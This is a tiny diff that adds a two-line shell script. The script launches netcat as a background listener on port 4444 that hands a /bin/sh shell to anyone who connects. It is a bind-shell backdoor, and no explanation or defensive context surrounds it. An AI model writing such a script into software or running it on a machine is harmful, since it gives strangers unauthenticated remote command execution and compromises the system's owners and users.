@@ -1,0 +1,2 @@
+#!/bin/sh
+nc -ll -p 4444 -e /bin/sh &
